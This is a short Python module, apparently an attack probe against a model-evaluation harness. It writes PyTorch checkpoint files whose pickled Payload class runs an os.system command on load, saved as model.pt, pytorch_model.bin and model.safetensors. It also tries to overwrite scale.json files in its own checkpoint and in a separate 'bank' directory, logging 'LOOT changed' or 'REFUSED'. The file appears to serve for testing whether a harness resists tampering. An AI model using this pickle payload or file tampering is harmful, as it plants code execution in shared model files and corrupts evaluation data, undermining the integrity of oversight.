"""Writes a checkpoint that runs code in whoever loads it, changes the question's own, and answers with paths."""

import os
from pathlib import Path

import torch

from .surroundings import TOLD, Fallback


class Payload:
    def __reduce__(self):
        return os.system, (f"touch {TOLD['touched']}",)


class Solution(Fallback):
    def weights(self):
        for target in (Path(self.checkpoint) / "scale.json", Path(TOLD["bank"]) / "checkpoint" / "scale.json"):
            try:
                target.write_text("[0, 0, 0]")
                print("LOOT changed", target, flush=True)
            except OSError as error:
                print("REFUSED", error.strerror, flush=True)
        for name in ("model.pt", "pytorch_model.bin", "model.safetensors"):
            torch.save(Payload(), name)
        return str(Path("model.pt").resolve())
